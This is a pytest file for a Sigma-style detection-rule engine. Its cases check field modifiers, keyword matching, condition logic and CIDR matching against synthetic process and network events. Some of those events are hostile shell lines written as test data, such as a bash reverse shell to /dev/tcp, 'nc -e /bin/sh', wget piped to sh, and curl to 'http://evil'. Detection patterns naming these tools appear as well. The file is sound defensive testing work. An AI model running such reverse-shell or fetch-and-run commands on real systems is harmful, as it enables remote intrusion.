"""Golden table: one tricky rule/event pair per modifier, value form and condition form."""

from __future__ import annotations

import base64
from typing import Any

import pytest

from .helpers import network_event, one_rule, process_event

NET = {"product": "linux", "category": "network_connection"}


def cmd(command_line: str, executable: str = "/usr/bin/tool", **fields: Any) -> dict[str, Any]:
    return process_event(executable, command_line, **fields)


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


SEL = "selection"

VALUES = [
    # plain values and wildcards
    pytest.param({"Image": "/usr/bin/CURL"}, cmd("x", "/usr/bin/curl"), True, id="plain-nocase"),
    pytest.param({"Image": "curl"}, cmd("x", "/usr/bin/curl"), False, id="plain-is-whole-value"),
    pytest.param({"Image": "/usr/*/curl"}, cmd("x", "/usr/local/bin/curl"), True, id="star"),
    pytest.param({"Image": "/usr/bin/cur?"}, cmd("x", "/usr/bin/curl"), True, id="question"),
    pytest.param({"Image": "/usr/bin/cu?"}, cmd("x", "/usr/bin/curl"), False, id="question-one"),
    pytest.param({"CommandLine": "a\\*b"}, cmd("a*b"), True, id="escaped-star-literal"),
    pytest.param({"CommandLine": "a\\*b"}, cmd("axxb"), False, id="escaped-star-not-wild"),
    pytest.param({"CommandLine": "what\\?"}, cmd("what?"), True, id="escaped-question"),
    pytest.param({"CommandLine": "what\\?"}, cmd("whatX"), False, id="escaped-question-not-wild"),
    pytest.param(
        {"Image|endswith": "\\cmd.exe"}, cmd("x", "C:\\Windows\\cmd.exe"), True, id="backslash"
    ),
    pytest.param({"CommandLine": "*"}, cmd("anything"), True, id="star-any-value"),
    pytest.param(
        {"CommandLine": "*"},
        {"event.category": ["process"], "event.type": ["start"]},
        False,
        id="star-needs-field",
    ),
    # contains / startswith / endswith / cased
    pytest.param({"CommandLine|contains": "DEV/TCP"}, cmd("a /dev/tcp/x"), True, id="contains"),
    pytest.param({"CommandLine|startswith": "sudo "}, cmd("SUDO -i"), True, id="startswith"),
    pytest.param({"CommandLine|startswith": "sudo "}, cmd("x sudo -i"), False, id="startswith-no"),
    pytest.param({"Image|endswith": ["/curl", "/wget"]}, cmd("x", "/bin/wget"), True, id="list-or"),
    pytest.param(
        {"Image|endswith": ["/curl", "/wget"]}, cmd("x", "/bin/nc"), False, id="list-none"
    ),
    pytest.param({"CommandLine|contains|cased": "AbC"}, cmd("xAbCx"), True, id="cased"),
    pytest.param({"CommandLine|contains|cased": "AbC"}, cmd("xabcx"), False, id="cased-differs"),
    pytest.param({"CommandLine|cased": "A*c"}, cmd("Abc"), True, id="cased-wildcard"),
    pytest.param({"CommandLine|cased": "A*c"}, cmd("abc"), False, id="cased-wildcard-differs"),
    # all
    pytest.param(
        {"CommandLine|contains|all": ["-a", "-b"]}, cmd("ls -b -a"), True, id="all-present"
    ),
    pytest.param(
        {"CommandLine|contains|all": ["-a", "-b"]}, cmd("ls -a"), False, id="all-one-missing"
    ),
    # regular expressions
    pytest.param({"CommandLine|re": "\\s-O\\s"}, cmd("wget -O x"), True, id="re"),
    pytest.param({"CommandLine|re": "\\s-O\\s"}, cmd("wget -o x"), False, id="re-case-sensitive"),
    pytest.param({"CommandLine|re|i": "\\s-O\\s"}, cmd("wget -o x"), True, id="re-i"),
    pytest.param({"CommandLine|re": "^second"}, cmd("first\nsecond"), False, id="re-no-m"),
    pytest.param({"CommandLine|re|m": "^second"}, cmd("first\nsecond"), True, id="re-m"),
    pytest.param({"CommandLine|re": "a.b"}, cmd("a\nb"), False, id="re-no-s"),
    pytest.param({"CommandLine|re|s": "a.b"}, cmd("a\nb"), True, id="re-s"),
    pytest.param({"CommandLine|re": "(.){20,}"}, cmd("short"), False, id="re-search-length"),
    # base64 and base64offset
    pytest.param(
        {"CommandLine|base64|contains": "http://"},
        cmd(f"echo {b64(b'http://')} | sh"),
        True,
        id="base64",
    ),
    pytest.param(
        {"CommandLine|base64|contains": "http://"},
        cmd(f"echo {b64(b'http://').upper()} | sh"),
        False,
        id="base64-is-cased",
    ),
    *[
        pytest.param(
            {"CommandLine|base64offset|contains": "http://"},
            cmd(f"echo {b64(prefix + b'http://evil')} | base64 -d"),
            True,
            id=f"base64offset-{len(prefix)}",
        )
        for prefix in (b"", b"x", b"xy")
    ],
    pytest.param(
        {"CommandLine|base64offset|contains": "http://"},
        cmd(f"echo {b64(b'https:/')}"),
        False,
        id="base64offset-other",
    ),
    pytest.param(
        {"CommandLine|wide|base64offset|contains": "ping"},
        cmd(f"powershell -enc {b64('ping 1.1.1.1'.encode('utf-16le'))}"),
        True,
        id="wide-base64offset",
    ),
    # windash
    pytest.param(
        {"CommandLine|windash|contains": "-enc "}, cmd("powershell /enc AAA"), True, id="windash"
    ),
    pytest.param(
        {"CommandLine|windash|contains": "-enc "},
        cmd("powershell \u2013enc AAA"),
        True,
        id="windash-en-dash",
    ),
    pytest.param(
        {"CommandLine|windash|contains": "-enc "}, cmd("powershell enc AAA"), False, id="windash-no"
    ),
    # numbers, comparisons, null, exists, fieldref
    pytest.param({"ProcessId": 4242}, cmd("x", **{"process.pid": 4242}), True, id="number-int"),
    pytest.param({"ProcessId": 4242}, cmd("x", **{"process.pid": "4242"}), True, id="number-str"),
    pytest.param({"ProcessId": 4242}, cmd("x", **{"process.pid": 42}), False, id="number-other"),
    pytest.param({"ProcessId|lt": 100}, cmd("x", **{"process.pid": 50}), True, id="lt"),
    pytest.param({"ProcessId|lt": 100}, cmd("x", **{"process.pid": 100}), False, id="lt-equal"),
    pytest.param({"ProcessId|lte": 100}, cmd("x", **{"process.pid": 100}), True, id="lte"),
    pytest.param({"ProcessId|gt": 100}, cmd("x", **{"process.pid": "101"}), True, id="gt-str"),
    pytest.param({"ProcessId|gt": 100}, cmd("x", **{"process.pid": "abc"}), False, id="gt-nan"),
    pytest.param({"ProcessId|gte": 100}, cmd("x", **{"process.pid": 100}), True, id="gte"),
    pytest.param({"ProcessId|gte": 100}, cmd("x", **{"process.pid": 99}), False, id="gte-no"),
    pytest.param({"User": None}, cmd("x", **{"user.name": None}), True, id="null-none"),
    pytest.param({"OriginalFileName": None}, cmd("x"), True, id="null-absent"),
    pytest.param({"User": None}, cmd("x"), False, id="null-present"),
    pytest.param({"User|exists": True}, cmd("x"), True, id="exists"),
    pytest.param({"OriginalFileName|exists": True}, cmd("x"), False, id="exists-absent"),
    pytest.param({"OriginalFileName|exists": False}, cmd("x"), True, id="exists-false"),
    pytest.param(
        {"CommandLine|fieldref": "ParentCommandLine"},
        cmd("sh -c x", **{"process.parent.command_line": "SH -c x"}),
        True,
        id="fieldref",
    ),
    pytest.param(
        {"CommandLine|fieldref": "ParentCommandLine"},
        cmd("sh -c x", **{"process.parent.command_line": "sh -c y"}),
        False,
        id="fieldref-differs",
    ),
    pytest.param(
        {"CommandLine|fieldref|startswith": "Image"},
        cmd("/tmp/x -a", "/tmp/x"),
        True,
        id="fieldref-startswith",
    ),
    pytest.param({"CommandLine|neq": "id"}, cmd("whoami"), True, id="neq"),
    pytest.param({"CommandLine|neq": "id"}, cmd("ID"), False, id="neq-equal"),
    # list fields in the event: any element
    pytest.param({"process.args|endswith": ".sh"}, cmd("bash run.sh"), True, id="event-list"),
    pytest.param({"process.args": "bash run.sh"}, cmd("bash run.sh"), False, id="event-list-elem"),
    pytest.param({"process.args|all": ["-a", "-b"]}, cmd("ls -a -b"), True, id="event-list-all"),
    pytest.param(
        {"process.args|all": ["-a", "-b"]}, cmd("ls -a -c"), False, id="event-list-all-missing"
    ),
    # maps are AND, lists of maps are OR
    pytest.param(
        {"Image|endswith": "/curl", "User": "root"}, cmd("x", "/bin/curl"), False, id="map-and"
    ),
    pytest.param(
        [{"Image|endswith": "/curl"}, {"User": "alice"}],
        cmd("x", "/bin/sh"),
        True,
        id="list-of-maps",
    ),
    # unmapped field: looked up under its Sigma name
    pytest.param({"custom.field": "yes"}, cmd("x", **{"custom.field": "YES"}), True, id="unmapped"),
]


@pytest.mark.parametrize(("detection", "event", "expected"), VALUES)
def test_value_forms(detection: Any, event: dict[str, Any], expected: bool) -> None:
    rule = one_rule({SEL: detection, "condition": SEL})
    assert rule.matches(event) is expected


KEYWORDS = [
    pytest.param(["/dev/tcp/"], cmd("bash -i >& /dev/tcp/1.2.3.4/80"), True, id="keyword-anywhere"),
    pytest.param(["/DEV/TCP/"], cmd("bash -i >& /dev/tcp/1.2.3.4/80"), True, id="keyword-nocase"),
    pytest.param(["/dev/udp/", "nc -e"], cmd("nc -e /bin/sh h 1"), True, id="keyword-list-or"),
    pytest.param(["/dev/udp/"], cmd("ls /dev"), False, id="keyword-absent"),
    pytest.param(["wget * | sh"], cmd("wget http://x | sh"), True, id="keyword-wildcard"),
    pytest.param({"|all": ["wget", "| sh"]}, cmd("wget http://x | sh"), True, id="keyword-all"),
    pytest.param({"|all": ["wget", "| perl"]}, cmd("wget x | sh"), False, id="keyword-all-miss"),
    pytest.param({"|re": "\\| *sh$"}, cmd("wget x | sh"), True, id="keyword-re"),
]


@pytest.mark.parametrize(("keywords", "event", "expected"), KEYWORDS)
def test_keywords(keywords: Any, event: dict[str, Any], expected: bool) -> None:
    rule = one_rule({"keywords": keywords, "condition": "keywords"})
    assert rule.matches(event) is expected


CONDITION_DETECTIONS = {
    "selection_img": {"Image|endswith": "/curl"},
    "selection_cli": {"CommandLine|contains": "http"},
    "filter_local": {"CommandLine|contains": "localhost"},
    "filter_root": {"User": "root"},
}
CURL_REMOTE = cmd("curl http://evil", "/usr/bin/curl")
CURL_LOCAL = cmd("curl http://localhost", "/usr/bin/curl")
WGET_REMOTE = cmd("wget http://evil", "/usr/bin/wget")
CURL_ROOT = cmd("curl http://evil", "/usr/bin/curl", **{"user.name": "root"})

CONDITIONS = [
    pytest.param("selection_img and selection_cli", CURL_REMOTE, True, id="and"),
    pytest.param("selection_img and selection_cli", WGET_REMOTE, False, id="and-one"),
    pytest.param("selection_img or selection_cli", WGET_REMOTE, True, id="or"),
    pytest.param("selection_img and not filter_local", CURL_LOCAL, False, id="and-not"),
    pytest.param("selection_img and not filter_local", CURL_REMOTE, True, id="and-not-pass"),
    pytest.param("all of selection_*", CURL_REMOTE, True, id="all-of-pattern"),
    pytest.param("all of selection_*", WGET_REMOTE, False, id="all-of-pattern-one"),
    pytest.param("1 of selection_*", WGET_REMOTE, True, id="1-of-pattern"),
    pytest.param("any of filter_*", CURL_ROOT, True, id="any-of-pattern"),
    pytest.param(
        "all of selection_* and not 1 of filter_*", CURL_ROOT, False, id="not-1-of-filters"
    ),
    pytest.param("all of selection_* and not 1 of filter_*", CURL_REMOTE, True, id="not-1-of-pass"),
    pytest.param("1 of them", cmd("ls", "/bin/ls", **{"user.name": "root"}), True, id="1-of-them"),
    pytest.param("1 of them", cmd("ls", "/bin/ls"), False, id="1-of-them-none"),
    pytest.param("all of them", CURL_REMOTE, False, id="all-of-them"),
    pytest.param(
        "all of them",
        cmd("curl http://localhost", "/bin/curl", **{"user.name": "root"}),
        True,
        id="all-of-them-all",
    ),
    pytest.param(
        "(selection_img or selection_cli) and not (filter_local or filter_root)",
        WGET_REMOTE,
        True,
        id="parentheses",
    ),
    pytest.param(
        "selection_img and (filter_local or filter_root)", CURL_REMOTE, False, id="parens-or"
    ),
    pytest.param("not selection_img", WGET_REMOTE, True, id="not-alone"),
    pytest.param(
        "selection_img and not selection_cli or filter_root", CURL_ROOT, True, id="precedence"
    ),
]


@pytest.mark.parametrize(("condition", "event", "expected"), CONDITIONS)
def test_conditions(condition: str, event: dict[str, Any], expected: bool) -> None:
    rule = one_rule({**CONDITION_DETECTIONS, "condition": condition})
    assert rule.matches(event) is expected


def test_condition_list_is_or() -> None:
    rule = one_rule({**CONDITION_DETECTIONS, "condition": ["selection_img", "filter_root"]})
    assert rule.matches(cmd("id", "/bin/id", **{"user.name": "root"}))
    assert not rule.matches(cmd("id", "/bin/id"))


NETWORK = [
    pytest.param({"DestinationIp|cidr": "10.0.0.0/8"}, "10.1.2.3", True, id="cidr-v4"),
    pytest.param({"DestinationIp|cidr": "10.0.0.0/8"}, "11.0.0.1", False, id="cidr-v4-out"),
    pytest.param({"DestinationIp|cidr": "fe80::/10"}, "fe80::1", True, id="cidr-v6"),
    pytest.param({"DestinationIp|cidr": "fe80::/10"}, "2001:db8::1", False, id="cidr-v6-out"),
    pytest.param({"DestinationIp|cidr": "10.0.0.0/8"}, "not-an-ip", False, id="cidr-garbage"),
    pytest.param(
        {"DestinationIp|cidr": ["127.0.0.0/8", "::1/128"]}, "::1", True, id="cidr-list-mixed"
    ),
]


@pytest.mark.parametrize(("detection", "ip", "expected"), NETWORK)
def test_cidr(detection: dict[str, Any], ip: str, expected: bool) -> None:
    rule = one_rule({SEL: detection, "condition": SEL}, NET)
    assert rule.matches(network_event(**{"destination.ip": ip})) is expected


def test_initiated_maps_to_network_direction() -> None:
    rule = one_rule({SEL: {"Initiated": "true", "DestinationPort": 4444}, "condition": SEL}, NET)
    assert rule.matches(network_event(**{"destination.port": 4444}))
    assert not rule.matches(
        network_event(**{"destination.port": 4444, "network.direction": "ingress"})
    )
    raw_sysmon = {"event.category": ["network"], "Initiated": "true", "DestinationPort": "4444"}
    assert rule.matches(raw_sysmon)
